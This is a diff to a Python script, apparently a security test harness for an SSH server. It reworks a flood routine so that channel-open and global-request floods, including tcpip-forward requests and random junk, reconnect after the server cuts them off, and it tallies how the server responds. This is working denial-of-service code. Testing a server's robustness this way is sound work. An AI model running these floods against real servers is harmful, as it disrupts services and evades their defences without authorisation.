@@ -678,39 +678,47 @@ def attack_wrong_sig_alg(args):
 def flood(args, make):
     """Sends `make(c, i)` on an authenticated connection as fast as the server takes them,
     without reading its replies (so they pile up on the server's side unless it stops reading
-    us); then reads what came back for a second. `blocked` says whether the server stopped
-    taking our messages (a send that waited more than a second)."""
-    c = login(args)
-    c.sock.settimeout(1)
-    sent, blocked = 0, False
+    us), then reads what came back for a second. When the server closes the connection (it cut
+    the flood) or stops taking messages for a second, the attacker logs in again and goes on,
+    until `rounds` ends. `confirmed` is the most channel confirmations one connection got."""
+    sent = connections = cut = blocked = confirmed = granted = 0
+    it = rounds(args)
+    exhausted = False
     start = time.monotonic()
-    try:
-        for i in rounds(args):
-            c.send(make(c, i))
-            sent += 1
-    except socket.timeout:
-        blocked = True
-    except (Closed, OSError):
-        pass
-    seen = {}
-    c.sock.settimeout(1)
-    try:
-        while True:
-            p = c.recv()
-            seen[p[0]] = seen.get(p[0], 0) + 1
-    except socket.timeout:
-        pass
-    except (Closed, OSError):
-        seen["closed"] = 1
-    c.close()
-    return {"tries": sent, "seconds": round(time.monotonic() - start, 2), "blocked": blocked,
-            "replies": {str(k): v for k, v in seen.items()}}
+    while not exhausted:
+        c = login(args)
+        connections += 1
+        c.sock.settimeout(1)
+        closed = False
+        try:
+            for i in it:
+                c.send(make(c, i))
+                sent += 1
+            exhausted = True
+        except socket.timeout:
+            blocked += 1
+        except (Closed, OSError):
+            closed = True
+        seen = {}
+        try:
+            while True:
+                p = c.recv()
+                seen[p[0]] = seen.get(p[0], 0) + 1
+        except socket.timeout:
+            pass
+        except (Closed, OSError):
+            closed = True
+        c.close()
+        cut += closed
+        confirmed = max(confirmed, seen.get(CHANNEL_OPEN_CONFIRMATION, 0))
+        granted += seen.get(REQUEST_SUCCESS, 0)
+    return {"tries": sent, "seconds": round(time.monotonic() - start, 2),
+            "connections": connections, "cut_by_server": cut, "blocked": blocked,
+            "confirmed": confirmed, "granted": granted}
 
 
 def attack_channel_flood(args):
-    out = flood(args, lambda c, i: open_session(c, i))
-    out["confirmed"] = out["replies"].get(str(CHANNEL_OPEN_CONFIRMATION), 0)
-    return out
+    return flood(args, lambda c, i: open_session(c, i))
 
 
 def attack_global_flood(args):
@@ -719,9 +727,7 @@ def attack_global_flood(args):
         lambda: string("tcpip-forward") + boolean(True) + string("0.0.0.0") + u32(2222),
         lambda: string("no-such-request@example.org") + boolean(True) + os.urandom(512),
     ]
-    out = flood(args, lambda c, i: bytes([GLOBAL_REQUEST]) + kinds[i % 3]())
-    out["granted"] = out["replies"].get(str(REQUEST_SUCCESS), 0)
-    return out
+    return flood(args, lambda c, i: bytes([GLOBAL_REQUEST]) + kinds[i % 3]())
 
 
 def attack_window_overflow(args):
